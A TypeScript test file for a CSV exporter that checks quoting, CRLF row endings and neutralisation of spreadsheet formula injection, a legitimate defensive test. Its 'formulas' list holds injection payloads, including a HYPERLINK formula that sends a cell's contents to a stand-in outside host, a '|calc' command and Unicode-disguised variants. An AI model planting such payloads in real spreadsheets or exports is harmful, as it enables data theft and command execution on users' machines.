import assert from 'node:assert/strict';
import { expect, test } from '@playwright/test';
import fc from 'fast-check';
import { byteOrderMark, csvOf } from '../../../src/pages/csv.ts';
import { eachRow } from '../rows.ts';

/** The cells of a CSV file as RFC 4180 has them, letter by letter. */
function parse(file: string): string[][] {
  assert(file.startsWith('\ufeff'), 'no byte order mark');
  const letters = [...file.slice(1)];
  const rows: string[][] = [];
  let row: string[] = [];
  for (let at = 0; at < letters.length; ) {
    assert.equal(letters[at], '"', `a cell that is not quoted, at ${at}`);
    let cell = '';
    for (at += 1; letters[at] !== '"' || letters[at + 1] === '"'; at += 1) {
      assert(at < letters.length, 'a cell without an end');
      if (letters[at] === '"') at += 1;
      cell += letters[at];
    }
    row.push(cell);
    const next = letters[at + 1];
    if (next === ',') {
      at += 2;
      continue;
    }
    assert.deepEqual([next, letters[at + 2]], ['\r', '\n'], `neither a comma nor an end of line, at ${at}`);
    rows.push(row);
    row = [];
    at += 3;
  }
  assert.deepEqual(row, [], 'a row without an end');
  return rows;
}

const fileOf = (rows: string[][]) => byteOrderMark + csvOf(rows);
/** One cell, as it stands in the file and as it is read back. */
const rawCell = (text: string) => fileOf([[text]]).slice(1, -2);
const cellOf = (text: string) => parse(fileOf([[text]]))[0]?.[0];

test('a file begins with a byte order mark, has its cells quoted and separated by commas, and ends every row with CRLF', () => {
  const rows = [
    ['time', 'site'],
    ['2025-01-01T00:00:00.000Z', 'www.acme-club.test'],
  ];
  expect(fileOf(rows)).toBe('\ufeff"time","site"\r\n"2025-01-01T00:00:00.000Z","www.acme-club.test"\r\n');
});

test('a file of no rows is a byte order mark, and an empty cell is an empty one', () => {
  expect(fileOf([])).toBe('\ufeff');
  expect(fileOf([['', 'a', '']])).toBe('\ufeff"","a",""\r\n');
});

const quoted: [text: string, cell: string][] = [
  ['a "b" c', '"a ""b"" c"'],
  ['"', '""""'],
  ['""', '""""""'],
  ['a,b', '"a,b"'],
  ['a\r\nb', '"a\r\nb"'],
  ['a\nb', '"a\nb"'],
  ['a\\"b', '"a\\""b"'],
  ['a","=1+1', '"a"",""=1+1"'],
  ['a\tb', '"a\tb"'],
];
test('quotes, commas and ends of lines stand in the file quoted, and are read back as they were', async () => {
  await eachRow(
    quoted,
    ([text]) => JSON.stringify(text),
    ([text, cell]) => {
      expect(rawCell(text)).toBe(cell);
      expect(cellOf(text)).toBe(text);
    },
  );
});

const formulas = [
  '=1+1',
  '=HYPERLINK("https://elsewhere.test/?"&A1,"Dana")',
  '+1+1',
  '+972 50 000',
  '-1+1',
  '-',
  '@SUM(A1)',
  '|calc',
  '%0A=1',
  '\t=1+1',
  '\tDana',
  '\r=1+1',
  '\rDana',
  '\n=1+1',
  '\nDana',
  ' =1+1',
  '   +1',
  '\u00a0=1+1',
  '\u3000@SUM(A1)',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u200e\u202a=1+1',
  '\u2060 \u00ad-1',
  ' \t\n=1+1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(A1)',
  ' \uff1d1+1',
];
test('what could be a formula is none: it has an apostrophe before it', async () => {
  await eachRow(formulas, visible, (text) => expect(cellOf(text)).toBe(`'${text}`));
});

const ordinary = [
  'Dana Levi',
  'דנה לוי',
  'مريم',
  '星野さくら',
  '🌸 Dana 🌸',
  '👩‍👩‍👧',
  "O'Brien",
  "'Dana'",
  '3-2',
  'a=b',
  'dana@mail.example',
  '100%',
  'a|b',
  ' Dana',
  '\u200fדנה',
  '(=1)',
  '#1',
  '_=1',
  '123',
  '2025-01-01T00:00:00.000Z',
  '22bef345-3c5b-4c18-b782-74d4085112ff',
];
test('what is no formula stays as it is', async () => {
  await eachRow(ordinary, visible, (text) => expect(cellOf(text)).toBe(text));
});

/** What can't be seen of a text is written out. */
function visible(text: string): string {
  return JSON.stringify(text).replace(
    /[\u00a0\u00ad\u200b-\u200f\u202a-\u202e\u2060\u3000\ufeff]/g,
    (letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`,
  );
}

const piece = fc.oneof(
  fc.constantFrom('"', '""', ',', '\r\n', '\n', '\r', '\t', ' ', "'", ';', '\u200b', '\u00a0', '\ufeff'),
  fc.constantFrom('=', '+', '-', '@', '|', '%', '\uff1d', '\uff0b', '\uff0d', '\uff20'),
  fc.constantFrom('Dana', 'דנה', "O'Brien", '3-2', '🌸', '1'),
  fc.string({ unit: 'binary', maxLength: 3 }),
);
const text = fc.array(piece, { maxLength: 6 }).map((pieces) => pieces.join(''));
const rows = fc.array(fc.array(text, { minLength: 1, maxLength: 5 }), { maxLength: 5 });

/** The first letter that takes room. */
function firstSeen(cell: string): string {
  return [...cell].find((letter) => !/[\s\p{Cf}]/u.test(letter)) ?? '';
}

test('whatever is written is read back the same but for the apostrophe, and nothing of it begins a formula', () => {
  const property = fc.property(rows, (given) => {
    const read = parse(fileOf(given));
    assert.deepEqual(
      read.map((row) => row.length),
      given.map((row) => row.length),
    );
    for (const [index, row] of given.entries()) {
      for (const [column, cell] of row.entries()) {
        const back = read[index]?.[column] ?? 'nothing';
        assert([cell, `'${cell}`].includes(back), JSON.stringify({ cell, back }));
        assert.doesNotMatch(firstSeen(back), /[=+\-@|%＝＋－＠]/);
        assert.doesNotMatch(back, /^[\t\r\n]/);
        if (/^[\p{L}\p{N}]/u.test(cell)) assert.equal(back, cell);
      }
    }
  });
  fc.assert(property, { seed: Number(process.env.PROPERTY_SEED), numRuns: 500 });
});
